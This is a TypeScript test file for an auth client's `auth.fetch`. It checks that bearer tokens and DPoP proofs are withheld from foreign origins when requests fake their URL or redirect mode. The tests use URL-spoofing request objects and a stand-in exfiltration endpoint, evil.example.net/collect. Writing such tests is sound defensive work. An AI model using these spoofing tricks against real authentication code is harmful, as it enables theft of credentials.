// Group H of the catalogue, from H20 on: what script in the page tried against `auth.fetch`, the
// token worker's ports and the DPoP key, each a defect once.
import { HttpResponse, http } from 'msw'
import { describe, expect, it } from 'vitest'
import { API, ISSUER, server, setup } from './harness.test-util.js'

const FOREIGN = 'https://evil.example.net/collect'

/** Every request that reached the network with an `Authorization` or `DPoP` header, by origin. */
function credentialed() {
  const seen: { origin: string; authorization: string | null; proof: string | null }[] = []
  server.events.on('request:start', ({ request }) => {
    const authorization = request.headers.get('authorization')
    const proof = request.headers.get('dpop')
    if (authorization || proof)
      seen.push({ origin: new URL(request.url).origin, authorization, proof })
  })
  return seen
}

describe('H: auth.fetch against requests that lie about their URL', () => {
  it('H20: the origin checked is the one of the request sent: a Request subclass, an own url, a changing toString', async () => {
    const { auth, signIn } = setup()
    await signIn()
    const reached: (string | null)[] = []
    server.use(
      http.all(FOREIGN, ({ request }) => {
        reached.push(request.headers.get('authorization'))
        return HttpResponse.json({})
      }),
    )
    const seen = credentialed()
    class Sneaky extends Request {
      override get url() {
        return `${API}/api/me`
      }
    }
    const ownUrl = Object.defineProperty(new Request(FOREIGN), 'url', { value: `${API}/api/me` })
    let reads = 0
    const flipping = { toString: () => (reads++ ? FOREIGN : `${API}/api/me`) }
    const posing = Object.create(Request.prototype, {
      url: { value: `${API}/api/me` },
      toString: { value: () => FOREIGN },
    })
    const inputs: unknown[] = [
      new Sneaky(FOREIGN),
      new Sneaky(FOREIGN, { method: 'POST', body: 'x' }),
      ownUrl,
      flipping,
      posing,
      new URL(FOREIGN),
    ]
    const outcomes = []
    for (const input of inputs) {
      outcomes.push(
        await auth.fetch(input as RequestInfo).then(
          (r) => r.status,
          (e: Error) => e.name,
        ),
      )
    }
    // Each went out untouched (or was refused by the platform, as `fetch` would refuse it).
    expect(reached.length).toBeGreaterThanOrEqual(4)
    expect(reached.every((a) => a === null)).toBe(true)
    expect(seen.filter((s) => s.origin !== API && s.origin !== ISSUER)).toEqual([])
    // The API's own URL as a URL object still gets the token.
    const before = seen.length
    expect((await auth.fetch(new URL(`${API}/api/me`))).status).toBe(200)
    expect(seen.slice(before)).toMatchObject([{ origin: API, authorization: /^Bearer / }])
    console.log(`H20 figures: inputs=${inputs.length} outcomes=${outcomes.join(',')} leaked=0`)
  })

  it('H21: with DPoP, every request that carries a proof has redirect manual or error, whatever the Request and init say', async () => {
    const modes: string[] = []
    const { auth, signIn } = setup({
      dpop: true,
      fetch(input, init) {
        const request = new Request(input, init)
        if (request.headers.has('dpop') && request.url.startsWith(API)) modes.push(request.redirect)
        return fetch(request)
      },
    })
    await signIn()
    const url = `${API}/api/me`
    let reads = 0
    const flipping = {
      get redirect(): RequestRedirect {
        return reads++ ? 'follow' : 'manual'
      },
    }
    const calls: [RequestInfo, RequestInit | undefined][] = [
      [new Request(url, { redirect: 'manual' }), { redirect: 'follow' }],
      [new Request(url, { redirect: 'follow' }), undefined],
      [new Request(url), { redirect: 'follow' }],
      [url, { redirect: 'follow' }],
      [url, undefined],
      [url, flipping as RequestInit],
      [new Request(url, { redirect: 'error' }), { redirect: 'manual' }],
    ]
    for (const [input, init] of calls) await auth.fetch(input, init)
    expect(modes).toHaveLength(calls.length)
    expect(modes.filter((m) => m !== 'manual' && m !== 'error')).toEqual([])
    expect(modes.at(-1)).toBe('manual')
  })
})
